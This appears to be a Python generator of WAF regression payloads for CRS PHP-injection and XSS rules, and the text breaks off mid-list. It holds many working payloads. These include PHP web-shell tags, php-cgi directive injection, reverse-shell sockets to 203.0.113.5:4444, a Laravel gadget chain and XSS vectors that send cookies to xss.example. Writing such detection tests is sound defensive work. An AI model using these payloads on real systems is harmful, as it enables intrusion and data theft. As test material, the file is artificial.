"""Blind set "hundredtwentyfourth": the positive regression tests of the CRS 3.3.4 PHP-injection and XSS
request rules (paranoia levels 1 and 2, plus the titles CRS 4.x added), written from the rule titles alone by
an eighteenth author with one angle: the SECOND and THIRD choice of a penetration tester or CTF player.

The angle. For every detection title this author writes what is typed by hand after the obvious payload was
blocked: the lesser-known keyword, function, wrapper, directive, tag, event, attribute or gadget that does the
same job (proc_open and pcntl_exec for system, php://fd and php://temp for php://input, ogg:// and ssh2.exec://
for expect://, <details ontoggle> and <marquee onstart> for <svg onload>, &Tab; and &#0000106 for javascript:,
parent and frames for window, $on and [].pop for constructor in AngularJS), other grammar the target still
accepts (comments or newlines between a PHP function name and its parenthesis, namespace-qualified and
upper-case calls, serialized strings in the S: escape form, attributes without quotes or separated by / and
form feeds, CSS escapes in @import) and payloads kept as short as possible (<?=`$_GET[0]`?>, $x($y);,
O:1:"A":0:{}, location=name, alert`1`). Every payload names in a comment the real target it works against
(a PHP version or configuration, a browser or browser generation, AngularJS versions).

Families and sub-families (one sub-family per detection title, kebab-case from the title):
  php: php-open-tag (933100), php-script-file-upload (933110), php-configuration-directive (933120),
       php-variables (933130), php-io-stream (933140), php-wrapper-scheme (933200), php-high-risk-function-name
       (933150), php-high-risk-function-call (933160), php-serialized-object-injection (933170),
       php-variable-function-call-933180, php-variable-function-call-933210, php-medium-risk-function-name
       (933151, PL2).
  xss: xss-libinjection-941100, xss-script-tag-vector (941110), xss-event-handler-vector (941120),
       xss-attribute-vector (941130), xss-javascript-uri-vector (941140), noscript-html-injection (941160),
       noscript-attribute-injection (941170), node-validator-blacklist-keywords (941180), ie-xss-filters-9411x0
       (941190-941300, one each), us-ascii-malformed-encoding-xss (941310), utf7-encoding-ie-xss (941350),
       jsfuck-hieroglyphy-obfuscation (941360), javascript-global-variable (941370), xss-libinjection-941101
       (PL2: path and Referer), xss-disallowed-html-attributes (941150, PL2), xss-html-tag-handler (941320, PL2),
       ie-xss-filters-941330 and -941340 (PL2), angularjs-template-injection (941380), and the two CRS 4.x titles
       xss-javascript-method and xss-function-without-parentheses.

Placements. Each payload is sent twice. Once to one of our real routes, rotating over: the query of /api/users
("query"), the form of /admin/users/search with its csrf_token ("form"), a field of a JSON /api/users body
("json", now and then a PATCH of /api/users/42), a cookie ("cookie", URL-encoded as PHP decodes it), the whole
User-Agent ("header:User-Agent"), a Referer on app.example.com ("header:Referer"), another header
("header:X-Client-Name"), a query parameter's name ("param-name"), an XML /api/users body escaped as an XML
client writes it ("xml"), a field or a file name of a multipart upload ("multipart-field", "multipart-filename")
and a path segment of /api/users ("path"). Once more the way a WAF's regression suite sends it, to paths that
are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary
parameter names (foo, var, x, test, id, arg1): "rs-query", "rs-form", "rs-json", "rs-xml" (in CDATA),
"rs-raw-body" (a form-typed body that is not key=value), "rs-header:User-Agent", "rs-header:Referer",
"rs-header:X-Custom-Header" and "rs-cookie". Three titles keep to the places their rule reads: file names of
uploads (933110: multipart file names and X-Filename headers), the path and the Referer (941101), and the raw
bytes 0xBC/0xBE that only URL-encoded places carry unchanged (941310, sent pre-encoded). Payloads with line
breaks or other control characters never go into a header; the long JSFuck programs only go into bodies.

The benign half (about as many requests) carries the same words innocently: developers and users in Slack and in
bios talking about PHP, templates, scripts and browsers, searches, names and addresses, documentation links,
real browser and client User-Agents, Referers and cookies, uploads with ordinary file names, XML profiles, and
the same regression-suite paths with ordinary values.

Authorship and independence: written for this repository from general knowledge of PHP, browsers and the
rule titles alone; no ruleset, rule file, regression test, other blind set or public payload list was read.
Measured once, on unchanged code. Deterministic (a seeded random source, no clock).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "hundredtwentyfourth"

# ---------------------------------------------------------------------------------------------------------------
# JSFuck, generated: six characters ([]()!+) only; Array.prototype.flat's source gives c, o, ( and ).
# ---------------------------------------------------------------------------------------------------------------


def _jsf_num(n: int) -> str:
    if n == 0:
        return "+[]"
    if n == 1:
        return "+!+[]"
    return "+".join(["!+[]"] * n)


def _jsf_index(n: int) -> str:
    digits = str(n)
    if len(digits) == 1:
        return "[" + _jsf_num(n) + "]"
    return "[" + _jsf_num(int(digits[0])) + "".join("+[" + _jsf_num(int(d)) + "]" for d in digits[1:]) + "]"


_JSF_FALSE, _JSF_TRUE, _JSF_UNDEF = "(![]+[])", "(!![]+[])", "([][[]]+[])"
_JSF_BASE = {"f": (_JSF_FALSE, 0), "a": (_JSF_FALSE, 1), "l": (_JSF_FALSE, 2), "s": (_JSF_FALSE, 3),
             "e": (_JSF_TRUE, 3), "t": (_JSF_TRUE, 0), "r": (_JSF_TRUE, 1), "u": (_JSF_UNDEF, 0),
             "n": (_JSF_UNDEF, 1), "d": (_JSF_UNDEF, 2), "i": (_JSF_UNDEF, 5)}
_JSF_FROM_SOURCE = {"c": 3, "o": 6, " ": 8, "(": 13, ")": 14}   # "function flat() { [native code] }"


def _jsf_char(c: str, flat: str) -> str:
    if c in _JSF_BASE:
        text, i = _JSF_BASE[c]
        return text + _jsf_index(i)
    if c.isdigit():
        return "(" + _jsf_num(int(c)) + "+[])"
    return "(" + flat + "+[])" + _jsf_index(_JSF_FROM_SOURCE[c])


def _jsf_str(text: str, flat: str = "") -> str:
    return "+".join(_jsf_char(c, flat) for c in text)


JSF_FLAT = "[][" + _jsf_str("flat") + "]"
JSF_FUNCTION = JSF_FLAT + "[" + _jsf_str("constructor", JSF_FLAT) + "]"


def jsfuck_call(code: str) -> str:
    """[]["flat"]["constructor"](code)() in JSFuck (checked in Node: it runs `code`)."""
    return JSF_FUNCTION + "(" + _jsf_str(code, JSF_FLAT) + ")()"


SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # well-formed svg onload
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="   # <script>alert(1)</script>

# ---------------------------------------------------------------------------------------------------------------
# The titles: (rule id, category, sub-family, payloads). Each payload's comment names its real target.
# ---------------------------------------------------------------------------------------------------------------

TITLES: list[tuple[int, str, str, list[str]]] = [
    (933100, "php", "php-open-tag", [
        "<?=`$_GET[0]`?>",                                  # PHP >= 5.4: the short echo tag is always on
        "<? passthru($_GET[1]);",                            # PHP with short_open_tag=On (the built-in default)
        "<?PhP\tsystem('id');",                              # PHP: the open tag is case-insensitive, tab after it
        "<script language=\"php\">system('id');</script>",   # PHP 5.x (script tag removed in 7.0)
        "<% system('id'); %>",                               # PHP 5.x with asp_tags=On
        "<%= `id` %>",                                       # PHP 5.x asp_tags echo form
        "<?php\nreadfile('/etc/passwd');",                   # PHP: newline after the tag, no closing tag needed
        "<?=include$_GET[0]?>",                              # PHP >= 5.4: include needs no parentheses or space
        "GIF89a<?=`id`;",                                    # PHP: image polyglot reached through an LFI
        "';?><?php system($_GET[0]);//",                     # PHP: breaks out of a value in a generated config.php
        "<?php die(`id`);",                                  # PHP: die() prints, backticks run a shell
    ]),
    (933110, "php", "php-script-file-upload", [
        "shell.phtml",          # Apache + Debian/Ubuntu libapache2-mod-php handler (.ph(ar|p|tml))
        "x.phar",               # Debian/Ubuntu PHP 7/8 FilesMatch also runs .phar
        "cmd.php5",             # cPanel / older AddHandler application/x-httpd-php5 .php5
        "a.php7",               # hosts that map .php7 to php-fpm
        "c.pht",                # Debian PHP 5 handler regex ph(p[345]?|t|tml)
        "s.PhP",                # IIS / Windows Apache: extensions are matched case-insensitively
        "shell.php.",           # Windows: the file system drops the trailing dot
        "x.php::$DATA",         # IIS on NTFS: the default data stream of x.php
        "avatar.php.jpg",       # Apache mod_mime with AddHandler .php: every extension counts
        "shell.php4",           # old AddType application/x-httpd-php .php4
        "s.php3",               # old AddType application/x-httpd-php .php3
    ]),
    (933120, "php", "php-configuration-directive", [
        "auto_append_file=php://input",                       # .user.ini (PHP-FPM/CGI) read per directory
        "-d allow_url_include=1 -d auto_prepend_file=php://input",   # php-cgi argv (CVE-2012-1823 / 2024-4577)
        "open_basedir=/",                                     # .user.ini: lifts a narrower open_basedir
        "disable_functions=\"\"",                              # php-cgi -d (PHP_INI_SYSTEM at startup)
        "safe_mode=Off",                                      # PHP <= 5.3 php.ini / -d
        "php_value auto_prepend_file /tmp/sess_abc",          # .htaccess under mod_php
        "php_flag engine on",                                 # .htaccess in an upload directory under mod_php
        "error_log=/var/www/html/e.php",                      # .user.ini: error log written as a script
        "sendmail_path=\"/tmp/x.sh\"",                         # php-cgi -d: mail() then runs the file
        "extension=/tmp/evil.so",                             # php-cgi -d: loads an uploaded module
        "include_path=\".:/tmp\"",                             # .user.ini: include() searches /tmp
        "session.save_path=/var/www/html/uploads",            # .user.ini: session files land in the web root
    ]),
    (933130, "php", "php-variables", [
        "$GLOBALS['_SERVER']['HTTP_X']",     # PHP eval() sink: superglobal through $GLOBALS
        "$_ENV['PATH']",                     # PHP eval() sink, variables_order with E
        "${'_REQUEST'}['c']",                # PHP 7/8 eval(): variable variable by string
        "\"$_SERVER[DOCUMENT_ROOT]\"",        # PHP: unquoted key inside a double-quoted string
        "$HTTP_RAW_POST_DATA",               # PHP 5.x with always_populate_raw_post_data
        "$http_response_header[0]",          # PHP: filled by the last http:// wrapper read
        "$_FILES[0]['tmp_name']",            # PHP eval() sink: the uploaded temp file
        "$argv[1]",                          # php-cgi with register_argc_argv: the query string
        "$_SESSION['is_admin']=1;",          # PHP eval() sink: session tampering
        "$HTTP_GET_VARS['x']",               # PHP <= 5.3 with register_long_arrays
        "$_COOKIE[0]",                       # PHP eval() sink
        "$php_errormsg",                     # PHP < 8 with track_errors
    ]),
    (933140, "php", "php-io-stream", [
        "php://stdin",                                                     # php-cgi / CLI: the request body
        "php://fd/0",                                                      # PHP >= 5.3.6 file descriptor stream
        "php://temp/maxmemory:64",                                         # PHP: writable scratch stream
        "php://memory",                                                    # PHP: writable memory stream
        "PHP://Filter/read=string.toupper/resource=index.php",            # PHP: scheme and filter names any case
        "php://filter/convert.iconv.UTF8.UTF16/resource=config.php",      # PHP with iconv: filter chain source leak
        "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",   # PHP with zlib
        "php://output",                                                    # PHP: write straight into the response
        "php://stderr",                                                    # PHP CLI/FPM: into the error log
        "php://filter/resource=/etc/passwd",                               # PHP: shortest filter form
        "php://filter/read=convert.quoted-printable-encode/resource=db.php",   # PHP: a filter rules rarely list
    ]),
    (933200, "php", "php-wrapper-scheme", [
        "compress.zlib:///var/www/html/uploads/x.gz",         # PHP with zlib: include() of a gzip upload
        "compress.bzip2:///tmp/sess_x",                       # PHP with bz2
        "glob:///var/www/html/*.php",                          # PHP >= 5.3 DirectoryIterator listing
        "rar://uploads/a.rar#shell.php",                      # PHP with PECL rar
        "ogg://http://203.0.113.5/a.ogg",                     # PHP with PECL oggvorbis
        "ssh2.exec://deploy:pw@10.0.0.5:22/id",               # PHP with PECL ssh2: runs a command on a host
        "ssh2.sftp://deploy:pw@10.0.0.5/etc/passwd",          # PHP with PECL ssh2
        "phar://./uploads/avatar.gif/x",                      # PHP: phar metadata deserialization via a GIF
        "zip://uploads/doc.docx#word/document.xml",           # PHP with zip
        "EXPECT://id",                                        # PHP with PECL expect: scheme case-insensitive
        "ssh2.tunnel://deploy:pw@10.0.0.5:22/127.0.0.1:6379",  # PHP with PECL ssh2: port forward
    ]),
    (933150, "php", "php-high-risk-function-name", [
        "pcntl_exec('/bin/sh',['-c','id']);",                  # PHP CLI/CGI with pcntl
        "proc_open('id',[1=>['pipe','w']],$p);",               # PHP >= 5.4
        "(new ReflectionFunction('system'))->invoke('id');",   # PHP >= 5.4 reflection instead of a call
        "eval(convert_uudecode($c));",                         # PHP: uuencode instead of base64
        "str_rot13('flfgrz')",                                 # PHP: "system" in rot13
        "var_export(get_defined_vars());",                     # PHP: dumps every variable in scope
        "fsockopen('203.0.113.5',4444);",                      # PHP: reverse shell socket
        "posix_getpwuid(0)",                                   # PHP with posix
        "forward_static_call('system','id');",                 # PHP >= 5.3: a rarely listed callback runner
        "__halt_compiler();",                                  # PHP: hides trailing payload data
        "file_put_contents('x.php',$_GET[0]);",                # PHP: writes a web shell
        "eval(bzdecompress($z));",                             # PHP with bz2
    ]),
    (933160, "php", "php-high-risk-function-call", [
        "passthru/**/('id');",                 # PHP: a comment between the name and the parenthesis
        "shell_exec#x\n('id');",               # PHP: a # comment and a newline before the parenthesis
        "popen('id','r');",                    # PHP: the lesser-known process opener
        "assert (\"system('id')\");",          # PHP < 8: assert() evaluates a string
        "array_map('passthru',['id']);",       # PHP >= 5.4: callback instead of a call
        "\\system('id');",                     # PHP >= 5.3: namespace-qualified global function
        "SYSTEM('id');",                       # PHP: function names are case-insensitive
        "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');",   # PHP: disable_functions bypass via sendmail
        "highlight_file('/etc/passwd');",      # PHP: file read that is not on the usual list
        "exec//x\n('id',$o);",                 # PHP: a // comment and a newline before the parenthesis
        "parse_str($_SERVER['QUERY_STRING']);",   # PHP < 8: one-argument form overwrites variables
        "unserialize($_COOKIE['s']);",         # PHP: object injection sink
    ]),
    (933170, "php", "php-serialized-object-injection", [
        "O:+4:\"User\":1:{s:5:\"admin\";b:1;}",                        # PHP 5.x-7.x: the length takes a plus sign
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",             # PHP < 7.4 custom-serialized class
        "a:1:{i:0;O:8:\"stdClass\":0:{}}",                             # PHP: object nested in an array
        "O:1:\"A\":0:{}",                                              # PHP: the shortest object
        "O:6:\"Logger\":1:{S:4:\"\\66ile\";s:10:\"/tmp/x.php\";}",     # PHP 5.2.x-8.x: S: string, \\xx escapes
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{S:9:\"\\00*\\00events\";O:15:\"Faker\\Generator\""
        ":1:{S:13:\"\\00*\\00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}S:8:\"\\00*\\00event\";s:2:\"id\";}",
        # ^ Laravel 5.x PendingBroadcast/Faker chain, protected names in the S: form (no raw NUL bytes)
        "x|O:8:\"stdClass\":0:{}",                                     # PHP session serializer (php handler)
        "O:8:\"stdClass\":1:{s:1:\"a\";R:1;}",                         # PHP: self reference
        "C:19:\"SplDoublyLinkedList\":24:{i:0;:O:8:\"stdClass\":0:{}}",   # PHP 5.3-7.3 SPL custom format
        "a:2:{i:0;s:1:\"x\";i:1;O:7:\"Monolog\":0:{}}",                # PHP: object after a scalar in an array
    ]),
    (933180, "php", "php-variable-function-call-933180", [
        "$x($y);",                            # PHP: the shortest variable call
        "$_GET[0]($_GET[1]);",                # PHP: callee and argument from the query
        "$$a('id');",                         # PHP: variable variable as callee
        "${'_'.'GET'}[0](${'_'.'GET'}[1]);",  # PHP 7/8: superglobal name built from pieces
        "$f /*x*/ ('id');",                   # PHP: comment before the parenthesis
        "$f#\n('id');",                       # PHP: # comment and newline before the parenthesis
        "$_POST['a']($_POST['b']);",          # PHP: China Chopper style
        "$o->$m('id');",                      # PHP: variable method name
        "$GLOBALS['f']('id');",               # PHP: callee through $GLOBALS
        "$x ( 'id' );",                       # PHP: spaces around the parenthesis
        "$a['b']['c']('id');",                # PHP: nested array element as callee
        "$_COOKIE[1]($_COOKIE[2]);",          # PHP: callee and argument from cookies
    ]),
    (933210, "php", "php-variable-function-call-933210", [
        "\"system\"(\"id\");",                                           # PHP >= 7.0: string literal callee
        "'passthru'('id');",                                             # PHP >= 7.0
        "('sys'.'tem')('id');",                                          # PHP >= 7.0: concatenated callee
        "(str_rot13('flfgrz'))('id');",                                  # PHP >= 7.0
        "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\");",                 # PHP >= 7.0: hex-escaped name
        "(strrev('metsys'))('id');",                                     # PHP >= 7.0
        "(base64_decode('c3lzdGVt'))('id');",                            # PHP >= 7.0
        "\"\\163ystem\"('id');",                                         # PHP >= 7.0: octal escape
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",   # PHP >= 7.0
        "(implode('',['sys','tem']))('id');",                           # PHP >= 7.0
        "('(&()%-'^'[_[]@@')('):'^'@^');",                               # PHP >= 7.0: non-alphanumeric XOR
        "[new ReflectionFunction('system'),'invoke']('id');",            # PHP >= 7.0: array callable
    ]),
    (933151, "php", "php-medium-risk-function-name", [
        "scandir('/')",                                         # PHP: directory listing
        "symlink('/etc/passwd','x.txt')",                       # PHP: exposes a file under the web root
        "imap_open(\"{x -oProxyCommand=echo\\tZWNobyAxCg==|base64\\t-d|sh}\",'','');",   # PHP imap (CVE-2018-19518)
        "mb_send_mail('a@b.c','s','m','','-X/var/www/html/x.php');",   # PHP mbstring + sendmail -X log file
        "dl('evil.so');",                                       # PHP CLI/CGI with enable_dl
        "ini_get_all()",                                        # PHP: configuration recon
        "getenv('DB_PASSWORD')",                                # PHP: secrets from the environment
        "curl_exec(curl_init('file:///etc/passwd'));",          # PHP with curl: file read / SSRF
        "stream_socket_client('tcp://203.0.113.5:4444');",      # PHP: reverse shell socket
        "chmod('x.php',0777);",                                 # PHP: makes a dropped file writable
        "opendir('/var/www');",                                 # PHP: directory listing
    ]),
    (941100, "xss", "xss-libinjection-941100", [
        "<details open ontoggle=alert(1)>",          # Chrome, Firefox, Safari: toggle fires on load
        "<body onpageshow=alert(1)>",                # all current browsers
        "<marquee onstart=alert(1)>",                # Firefox
        "<video><source onerror=alert(1)>",          # all current browsers
        "<input autofocus onfocus=alert(1)>",        # all current browsers
        "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",   # Chrome, Firefox, Safari
        "<a href=javascript&colon;alert(1)>x</a>",  # HTML5 browsers decode &colon;
        "\"><img src onerror=confirm`1`>",           # all current browsers: empty src errors
        "<audio src onerror=alert(1)>",              # all current browsers
        "<x onclick=alert(1)>click",                 # all browsers: any custom element
        "'--><svg onload=prompt(1)>",                # all current browsers: out of a comment and an attribute
    ]),
    (941110, "xss", "xss-script-tag-vector", [
        "<script/src=//xss.example>",                                 # all browsers: / as separator, no end tag
        "<script\n>alert(1)</script>",                                # all browsers
        "<script x>alert(1)</script x>",                              # all browsers: junk attribute on both tags
        "<script type=module>import('//xss.example/m.js')</script>",  # Chrome >= 63, Firefox >= 67
        "<script src=data:,alert(1)></script>",                       # Chrome, Firefox (no CSP)
        "<svg><script href=data:,alert(1) />",                        # Chrome, Firefox: SVG2 script href
        "<script>alert`1`</script>",                                  # ES2015 browsers
        "<script/x>onerror=alert;throw 1</script>",                   # ES5 browsers
        "<ScRiPt>eval(location.hash.slice(1))</sCrIpT>",              # all browsers
        "<script defer src=/api/users?callback=alert></script>",      # all browsers: same-origin JSONP
        "</script><script>alert(1)//",                                # all browsers: out of an inline script
    ]),
    (941120, "xss", "xss-event-handler-vector", [
        "\" onmouseover=alert(1) x=\"",                     # all browsers: out of a double-quoted attribute
        "' autofocus onfocus='alert(1)",                    # all browsers: single-quoted attribute, no click
        "<div onpointerover=alert(1)>hover</div>",          # Chrome >= 55, Firefox >= 59
        "<svg onload\x0c=alert(1)>",                        # all browsers: form feed before =
        "<img/src/onerror=alert(1)>",                       # all browsers: slashes as separators
        "<a onauxclick=alert(1)>right-click</a>",          # Chrome, Firefox
        "<x contenteditable onblur=alert(1)>lose focus",    # all browsers
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",   # current browsers
        "<svg><set onbegin=alert(1) attributeName=x to=1>",   # Chrome, Firefox: SMIL begin event
        "<video src=x onloadstart=alert(1)>",               # all current browsers
        "<div tabindex=1 autofocus onfocusin=alert(1)>",    # Chrome
        "\"onfocus=alert(1) autofocus=\"",                  # all browsers: no space after the quote
    ]),
    (941130, "xss", "xss-attribute-vector", [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",   # Chrome, Firefox
        "<form><input type=image formaction=javascript:alert(1) src=x></form>",       # Chrome, Firefox
        f"<iframe src=\"data:text/html;base64,{SCRIPT_B64}\">",                       # Chrome, Firefox
        "<object data=\"data:text/html,<script>alert(1)</script>\">",                 # Firefox
        "<style>@import'//xss.example/x.css';</style>",                               # all browsers: CSS injection
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://xss.example/x\">]><x>&xxe;</x>",   # XML/XHTML pages
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",             # all current browsers
        "<form><input pattern=a value=b required oninvalid=alert(1)><button>go</button></form>",   # HTML5
        f"<embed src=\"data:image/svg+xml;base64,{SVG_B64}\">",                       # Firefox
        "<iframe src=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">",   # Chrome, Firefox
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",     # XHTML pages (XML parser)
    ]),
    (941140, "xss", "xss-javascript-uri-vector", [
        "<a href=\" javascript:alert(1)\">x</a>",            # all browsers strip leading spaces from URLs
        "<a href=JaVaScRiPt:alert(1)>x</a>",                 # all browsers: schemes are case-insensitive
        "<iframe src=javascript:alert(1)>",                  # all browsers
        "<div style=\"background:url(javascript:alert(1))\">",   # IE <= 7
        "<table background=\"javascript:alert(1)\">",        # IE <= 7
        "<a href=vbscript:msgbox(1)>x</a>",                  # IE <= 10
        "<form action=javascript:alert(1)><input type=submit>",   # all browsers
        "<img dynsrc=javascript:alert(1)>",                  # IE 6
        "javascript://%0aalert(1)",                          # all browsers: as a redirect or href target
        "<a href=javascript:alert&lpar;1&rpar;>x</a>",       # HTML5 browsers decode &lpar; &rpar;
        "<link rel=stylesheet href=javascript:alert(1)>",    # IE 6
    ]),
    (941160, "xss", "noscript-html-injection", [
        "<form action=//xss.example><input name=u><input type=password name=pw><button>Sign in</button></form>",
        # ^ all browsers: a login form that posts elsewhere
        "<base href=https://xss.example/static/>",                   # all browsers: relative URLs hijacked
        "<meta http-equiv=refresh content=0;url=//xss.example>",    # all browsers
        "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",    # Firefox
        "<isindex action=javascript:alert(1) type=image>",          # IE <= 9, old Firefox
        "<video poster=javascript:alert(1)//></video>",              # Opera <= 10
        "<style>*{x:expression(alert(1))}</style>",                 # IE <= 7
        "<img src=x onerror=alert(1)//",                             # all browsers: the page's next > closes it
        "<iframe/src=//xss.example>",                                # all browsers
        "<link rel=import href=//xss.example/x.html>",               # Chrome < 73 (HTML imports)
        "<applet code=Exploit.class archive=//xss.example/x.jar>",  # browsers with the Java plug-in
    ]),
    (941170, "xss", "noscript-attribute-injection", [
        "javascript:eval(name)",                              # all browsers: code in window.name
        "javascript:top['al'+'ert'](1)",                      # all browsers
        "data:text/html,<script>alert(1)</script>",           # Chrome, Firefox: in an iframe src
        "data:,alert(1)",                                     # Chrome, Firefox: as a script src
        "@import url(//xss.example/x.css);",                  # all browsers: into a style block
        "@\\i\\m\\p\\o\\r\\t '//xss.example/x.css';",         # all browsers: CSS escapes in the at-rule
        "-moz-binding:url(//xss.example/xss.xml#x)",          # Firefox <= 3.6 (XBL)
        "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",   # polyglot, all browsers
        "javascript:\\u0061lert(1)",                          # all browsers: Unicode escape in an identifier
        "javascript:location=name",                           # all browsers: second-stage in window.name
        f"data:text/html;base64,{SCRIPT_B64}",                # Chrome, Firefox: in an iframe or object
    ]),
    (941180, "xss", "node-validator-blacklist-keywords", [
        "x.parentNode.innerHTML=location.hash.slice(1)",       # all browsers (DOM sink in a JS context)
        "window.location='//xss.example/?'+document.cookie",   # all browsers
        "document.write(atob(location.hash.slice(1)))",        # all browsers
        "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>",   # XML/XHTML pages
        "--><svg onload=alert(1)>",                            # all browsers: out of an HTML comment
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",  # all browsers: comment ends inside the value
        "div{-moz-binding:url(//xss.example/b.xml#c)}",        # Firefox <= 3.6
        "document.body.innerHTML=decodeURI(location.hash)",    # all browsers
        "fetch('//xss.example/'+document .cookie)",            # all current browsers: space before the dot
        "document['write']('<svg onload=alert(1)>')",          # all browsers: bracket notation
        "opener.location='//xss.example/phish'",               # all browsers: reverse tabnabbing
    ]),
    (941190, "xss", "ie-xss-filters-941190", [
        "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",                   # IE <= 7
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",            # IE <= 7
        "<STYLE>li{list-style-image:url(\"javascript:alert(1)\")}</STYLE><UL><LI>x",   # IE <= 7
        "<style>x{width:expression(alert(1))}</style>",                           # IE <= 7
        "<style>@import\"//xss.example/x.css\";</style>",                         # all browsers
        "<style type=text/css>@\\69mport'//xss.example/x.css'</style>",          # all browsers: \69 is i
        "<style>a{color:e\\xpression(alert(1))}</style>",                         # IE <= 7: escaped x
        "<style>input[value^=a]{background:url(//xss.example/a)}</style>",       # all browsers: CSS exfiltration
        "<style>@font-face{font-family:x;src:url(//xss.example/f)}</style>",     # all browsers
        "<style>*{behavior:url(//xss.example/x.htc)}</style>",                   # IE <= 9 (HTC behavior)
    ]),
    (941200, "xss", "ie-xss-filters-941200", [
        "<v:vmlframe src=\"//xss.example/x.vml#xss\">",                          # IE <= 9 with the VML namespace
        "<v:vmlframe/src=//xss.example/a.vml#x>",                                # IE <= 9
        "<?xml:namespace prefix=\"v\" ns=\"urn:schemas-microsoft-com:vml\"?>"
        "<v:vmlframe src=\"//xss.example/x.vml#xss\">",
        # ^ IE <= 9: declares the namespace itself
        "<V:VMLFRAME SRC=//xss.example/v#x></V:VMLFRAME>",                       # IE <= 9
        "<v:vmlframe\tsrc\t=\t\"//xss.example/p.vml#x\">",                       # IE <= 9: tabs
        "<b:vmlframe src=//xss.example/p#x>",                                    # IE <= 9: any prefix bound to VML
        "<v:vmlframe src=\"vml.htm#xss\" style=\"behavior:url(#default#VML)\"/>",   # IE <= 9
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"#x\"/>",   # IE <= 9
        "<v:vmlframe id=a src='//xss.example/x.vml#a'>",                         # IE <= 9: single quotes
    ]),
    (941210, "xss", "ie-xss-filters-941210", [
        "<a href=\"&#106;avascript:alert(1)\">x</a>",                   # all browsers decode entities in URLs
        "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",              # all browsers
        "<a href=\"ja&#x09;vascript:alert(1)\">x</a>",                  # all browsers drop tabs in URLs
        "<a href=\"j&#10;a&#13;v&#9;ascript:alert(1)\">x</a>",          # all browsers drop CR/LF/tab
        "<a href=\"javascript&colon;alert(1)\">x</a>",                  # HTML5 browsers
        "<iframe src=\"jav&Tab;ascript:alert(1)\">",                     # HTML5 browsers
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        "&#0000058alert(1)\">x</a>",                                     # all browsers: padded, no semicolons
        "<a href=\"java&NewLine;script:alert(1)\">x</a>",               # HTML5 browsers
        "<img src=\"jav\tascript:alert(1)\">",                           # IE 6: a raw tab
        "<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)\">x</a>",   # all browsers
        "<a href=javas&#99;ript:alert(1)>x</a>",                         # all browsers
    ]),
    (941220, "xss", "ie-xss-filters-941220", [
        "<a href=\"vbscript:msgbox(1)\">x</a>",                  # IE <= 10
        "<img src='vbscript:msgbox(\"x\")'>",                    # IE 6
        "<a href=\"&#118;bscript:msgbox(1)\">x</a>",            # IE <= 10
        "<a href=\"vb&#x09;script:MsgBox 1\">x</a>",            # IE <= 10
        "<iframe src=\"VBSCRIPT&#58;msgbox(1)\">",               # IE <= 10
        "<a href=vbs&#99;ript:execute(\"msgbox 1\")>x</a>",     # IE <= 10
        "<body background=vbscript:msgbox(1)>",                  # IE 6
        "<meta http-equiv=refresh content=\"0;url=vbscript:msgbox(1)\">",   # IE <= 10
        "vbscript:Execute(\"MsgBox 1\")",                        # IE <= 10: as an href value
        "<a href=\"v&#98;script:msgbox document.cookie\">x</a>",   # IE <= 10
    ]),
    (941230, "xss", "ie-xss-filters-941230", [
        "<embed src=//xss.example/x.swf allowscriptaccess=always>",           # browsers with Flash
        f"<EMBED SRC=\"data:image/svg+xml;base64,{SVG_B64}\" type=\"image/svg+xml\">",   # Firefox
        "<embed type=text/html src=//xss.example/x.html>",                   # Chrome, Firefox
        "<embed/src=javascript:alert(1)>",                                   # IE, old Firefox
        "<embed src=\"//xss.example/x.pdf#FDF=javascript:alert(1)\">",       # Adobe Reader <= 7 plug-in
        "<embed\tsrc=//xss.example/x.swf>",                                  # browsers with Flash
        "<embed type=\"application/x-shockwave-flash\" allownetworking=all src=x.swf>",   # Flash
        "<embed src=\"javascript&#58;alert(1)\">",                           # IE, old Firefox
    ]),
    (941240, "xss", "ie-xss-filters-941240", [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",        # IE 5.5-8 (HTML+TIME)
        "<?IMPORT namespace=\"v\" implementation=\"#default#VML\" ?>",        # IE 5.5-9
        "<?import namespace=x implementation=//xss.example/x.htc>",           # IE <= 9: remote behavior
        "<html xmlns:t><?import namespace=t implementation=#default#time2><t:set attributeName=innerHTML "
        "to=&lt;img/src/onerror=alert(1)&gt;>",                               # IE 5.5-8
        "<?import\tnamespace=\"x\"\timplementation=\"x.htc\">",               # IE <= 9: tabs
        "<?import namespace=\"t\" implementation=\"#default#time2\"><t:animate attributeName=innerHTML "
